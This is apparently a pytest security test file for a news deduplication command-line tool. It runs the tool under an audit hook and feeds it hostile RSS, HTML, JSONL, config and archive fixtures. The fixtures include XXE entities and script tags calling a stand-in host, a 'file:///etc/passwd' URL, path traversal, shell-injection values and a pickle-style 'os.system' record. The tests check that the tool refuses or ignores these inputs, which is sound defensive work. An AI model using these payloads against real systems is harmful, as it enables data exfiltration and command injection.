"""What comes from outside cannot write beside its place, run code, or leave the machine.

The command runs as a real process under an audit hook (PEP 578) that notes every file opened for writing, every
process started, every socket and every unpickling.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest
from stub_models import StubEncoder, StubGrammar

from dedup import Archive, Article
from dedup.archive.schema import DATABASE, EMBEDDINGS
from dedup.errors import ArchiveError
from dedup.readers import read_set

WATCHED = """
import os, sys
told = os.open(sys.argv.pop(1), os.O_WRONLY | os.O_APPEND)
ALONE = ("subprocess.Popen", "os.system", "os.posix_spawn", "os.exec", "os.fork", "pickle.find_class", "os.link",
         "os.symlink", "os.remove", "os.rename", "os.mkdir", "ctypes.dlopen.remote", "webbrowser.open")
def hook(event, arguments):
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        mode, flags = arguments[1], arguments[2]
        if (mode and set("wax+") & set(mode)) or (flags or 0) & (os.O_WRONLY | os.O_RDWR | os.O_CREAT):
            os.write(told, f"write {os.fsdecode(arguments[0])}\\n".encode())
    elif event in ALONE or event.startswith("socket.") and event != "socket.__new__":
        os.write(told, f"{event} {arguments!r}\\n".encode())
sys.addaudithook(hook)
from dedup.cli import main
main()
"""
PROSE = "The ferry Aran Star sank off Port Ellen on Tuesday, killing 19 people, the coastguard said."
URL = "http://198.51.100.7/stolen"


def watched(folder: Path, *arguments: str | Path) -> tuple[int, list[str]]:
    """Status of `dedup` with these arguments, run in `folder`, and what it did that a reader of files need not."""
    log = folder.parent / "watched.log"
    log.write_text("")
    scratch = folder.parent / "scratch"
    scratch.mkdir(exist_ok=True)
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, str(log), *map(str, arguments)],
        cwd=folder,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1", "TMPDIR": str(scratch)},
    )
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, [line for line in log.read_text().splitlines() if str(scratch) not in line]


def deeds(events: Sequence[str]) -> set[str]:
    """Events without the numbers that differ from run to run; opening nothing for writing is no deed."""
    return {re.sub(r"\d+", "N", event) for event in events if event != f"write {os.devnull}"}


@pytest.fixture(scope="module")
def usual(tmp_path_factory: pytest.TempPathFactory) -> set[str]:
    """What a harmless check does: some libraries ask for their own parts of the system when they are imported."""
    folder = tmp_path_factory.mktemp("harmless") / "desk"
    folder.mkdir()
    (folder / "draft.md").write_text(f"# Ferry sinks\n\n{PROSE}\n")
    (folder / "page.html").write_text(f"<html><body><article><p>{PROSE}</p><p>{PROSE}</p></article></body></html>")
    (folder / "feed.rss").write_text(f"<rss><channel><item><description>{PROSE}</description></item></channel></rss>")
    told = [watched(folder, "check", "draft.md", "--against", name) for name in ("page.html", "feed.rss", "draft.md")]
    usual = set().union(*(deeds(events) for _, events in told))
    assert not any(event.startswith(("write", "socket.connect", "socket.getaddrinfo")) for event in usual), usual
    return usual


@pytest.fixture
def desk(tmp_path: Path) -> Path:
    """A working directory with a draft."""
    folder = tmp_path / "desk"
    folder.mkdir()
    (folder / "draft.md").write_text(f"# Ferry sinks\n\n{PROSE}\n")
    return folder


def test_the_watch_sees_what_it_watches_for(desk: Path) -> None:
    """A check that cannot fail says nothing: a report asked for is a write."""
    _, events = watched(desk, "check", "draft.md", "--against", "draft.md", "--include-own", "-o", "out.json")
    assert any(event.startswith(("write", "os.rename")) and ".out.json" in event for event in events)


HOSTILE_FEEDS = {
    "feed.rss": f"""<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{URL}"><!ENTITY % p SYSTEM "{URL}"> %p;]>
<rss xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>{URL}</title><item><title>Ferry &x;</title>
<link>javascript:alert(1)</link><guid>../../../../etc/cron.d/x</guid><xi:include href="{URL}"/>
<description>&lt;img src="{URL}"&gt;&lt;iframe src="{URL}"&gt;&lt;/iframe&gt; {PROSE.replace("19", "23")}</description>
</item></channel></rss>""",
    "page.html": f"""<html><head><base href="{URL}"><link rel="stylesheet" href="{URL}"><meta http-equiv="refresh"
content="0;url={URL}"><script src="{URL}"></script></head><body><article><img src="{URL}"><object data="{URL}"></object>
<p>{PROSE.replace("19", "23")}</p><p>{PROSE.replace("Tuesday", "Monday")}</p></article></body></html>""",
    "record.jsonl": json.dumps(
        {"id": "../../x", "url": f"file:///etc/passwd?{URL}", "source": "`touch x`$(touch y)", "text": PROSE}
    ),
}


@pytest.mark.parametrize("name", HOSTILE_FEEDS)
def test_a_hostile_feed_is_only_read(desk: Path, usual: set[str], name: str) -> None:
    (desk / name).write_text(HOSTILE_FEEDS[name])
    status, events = watched(desk, "check", "draft.md", "--against", name)
    assert status in (0, 1, 2)
    assert deeds(events) <= usual
    assert sorted(entry.name for entry in desk.iterdir()) == sorted(["draft.md", name])


def test_a_hostile_draft_is_only_read(desk: Path, usual: set[str]) -> None:
    (desk / "draft.md").write_text(
        f"---\nid: ../../x\nurl: {URL}\nsource: !!python/object\n---\n![]({URL})\n\n{PROSE}\n"
    )
    (desk / "record.jsonl").write_text(HOSTILE_FEEDS["record.jsonl"])
    status, events = watched(desk, "check", "draft.md", "--against", "record.jsonl")
    assert status in (0, 1) and deeds(events) <= usual


def test_a_hostile_configuration_found_beside_the_drafts_is_refused(desk: Path, usual: set[str]) -> None:
    (desk / "dedup.toml").write_text('[check]\noutput = ["../stolen.json"]\nmodel = "./evil"\n')
    status, events = watched(desk, "check", "draft.md", "--against", "draft.md")
    assert status == 2 and deeds(events) <= usual


def test_a_hostile_archive_cannot_write_beside_itself(desk: Path) -> None:
    victim = desk / "victim.txt"
    victim.write_text("precious")
    place = desk / "archive"
    for linked in (DATABASE, EMBEDDINGS):
        with Archive(place, create=True, encoder=StubEncoder(), grammar=StubGrammar()) as archive:
            archive.add([Article(id="a", set="A", source="Herald", text=PROSE)])
        (place / linked).unlink()
        (place / linked).symlink_to(victim)
        with pytest.raises(ArchiveError, match="is a link"):
            Archive(place, encoder=StubEncoder(), grammar=StubGrammar())
        status, _ = watched(desk, "archive", "add", "archive", "draft.md")
        assert status == 2 and victim.read_text() == "precious"
        for entry in place.iterdir():
            entry.unlink()


def test_an_archive_with_triggers_is_refused(tmp_path: Path) -> None:
    Archive(tmp_path / "archive", create=True, encoder=StubEncoder(), grammar=StubGrammar()).close()
    with sqlite3.connect(tmp_path / "archive" / DATABASE) as connection:
        connection.execute("CREATE TRIGGER t AFTER INSERT ON article BEGIN DELETE FROM article; END")
    connection.close()
    with pytest.raises(ArchiveError, match="triggers"):
        Archive(tmp_path / "archive", encoder=StubEncoder(), grammar=StubGrammar())


@pytest.mark.parametrize("record", ["no JSON", "{}", "[]", '{"set": 1, "published": 5}', '{"__class__": "os.system"}'])
def test_a_record_that_is_no_article_is_one_line(desk: Path, record: str) -> None:
    place = desk / "archive"
    with Archive(place, create=True, encoder=StubEncoder(), grammar=StubGrammar()) as archive:
        archive.add([Article(id="a", set="A", source="Herald", text=PROSE)])
    with sqlite3.connect(place / DATABASE) as connection:
        connection.execute("UPDATE article SET record = ?", (record,))
    connection.close()
    with (
        Archive(place, encoder=StubEncoder(), grammar=StubGrammar()) as archive,
        pytest.raises(ArchiveError, match="is no article"),
    ):
        archive.get(["a"])


def test_embeddings_that_are_cut_off_are_not_searched(tmp_path: Path) -> None:
    place = tmp_path / "archive"
    with Archive(place, create=True, encoder=StubEncoder(), grammar=StubGrammar()) as archive:
        archive.add([Article(id="a", set="A", source="Herald", text=PROSE)])
        (place / EMBEDDINGS).write_bytes(b"short")
        with pytest.raises(ArchiveError, match="cut off"):
            archive.near(StubEncoder().encode([PROSE]), 3)


def test_links_that_loop_and_pipes_in_a_folder_end(tmp_path: Path) -> None:
    folder = tmp_path / "set"
    (folder / "deep").mkdir(parents=True)
    (folder / "a.txt").write_text(PROSE)
    (folder / "deep" / "loop").symlink_to(folder)
    (folder / "self").symlink_to(folder / "self")
    os.mkfifo(folder / "pipe.txt")
    result = read_set(str(folder), "A")
    assert [Path(article.path or "").name for article in result.articles] == ["a.txt"]
    assert {Path(skip.path).name: skip.reason for skip in result.skipped} == {
        "loop": "link to a directory that has been read",
        "self": "neither a file nor a directory",
        "pipe.txt": "neither a file nor a directory",
    }
